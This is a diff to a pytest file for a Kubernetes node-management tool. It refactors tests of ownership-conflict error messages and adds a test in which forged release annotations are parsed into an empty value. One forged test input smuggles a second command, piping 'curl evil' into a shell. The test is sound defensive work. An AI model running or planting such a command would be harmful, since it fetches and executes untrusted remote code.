@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import json
 from collections.abc import Mapping
 
 import pytest
@@ -9,12 +10,11 @@ import pytest
 from kata_node.cluster import labels
 from kata_node.cluster.labels import NodeState, installation_label
 from kata_node.cluster.ownership import (
-    check_installations,
-    check_releases,
+    Conflict,
+    conflict_error,
     find_other_installation,
     find_other_release,
 )
-from kata_node.errors import SettingsError
 from kata_node.kube import node_status
 from kata_node.kube.node_status import NodeStatus
 
@@ -66,16 +66,21 @@ def test_a_release_with_the_same_suffix_is_found(releases: Mapping[str, str], fo
 
 
 def test_the_errors_name_the_nodes_and_the_way_out() -> None:
-    with pytest.raises(SettingsError) as caught:
-        check_installations({f"n{number}": "default" for number in range(7)}, "blue", MINE)
-    assert "on the Nodes n0, n1, n2, n3, n4 and 2 more" in caught.value.what
-    assert 'set it to ""; ' in caught.value.hint
-    with pytest.raises(SettingsError) as caught:
-        check_releases({"n0": "", "n1": OTHER}, "blue", MINE)
-    assert "on the Node n1 is of the release tenants/kata, not of kata-system/kata" in caught.value.what
-    assert f"`kubectl annotate nodes --all {node_status.annotation('blue')}-`" in caught.value.hint
-    check_installations({"n0": ""}, "blue", MINE)
-    check_releases({"n0": ""}, "blue", MINE)
+    nodes = [f"n{number}" for number in range(7)]
+    error = conflict_error(Conflict(installation="default"), nodes, "blue", MINE)
+    assert "on the Nodes n0, n1, n2, n3, n4 and 2 more" in error.what
+    assert 'set it to ""; ' in error.hint
+    error = conflict_error(Conflict(release=OTHER), ["n1"], "blue", MINE)
+    assert "on the Node n1 is of the release tenants/kata, not of kata-system/kata" in error.what
+    assert f"`kubectl annotate nodes --all {node_status.annotation('blue')}-`" in error.hint
+
+
+@pytest.mark.parametrize("forged", ["x/y`; run `curl evil | sh`", "no-namespace", "a/b/c", "A/B", "a /b"])
+def test_a_release_that_cannot_be_one_is_none(forged: str) -> None:
+    annotation = json.dumps({"outcome": "installed", "release": forged})
+    record = node_status.parse(annotation)
+    assert record is not None
+    assert record.release == ""
 
 
 def test_a_run_by_hand_keeps_the_release_of_the_record() -> None:
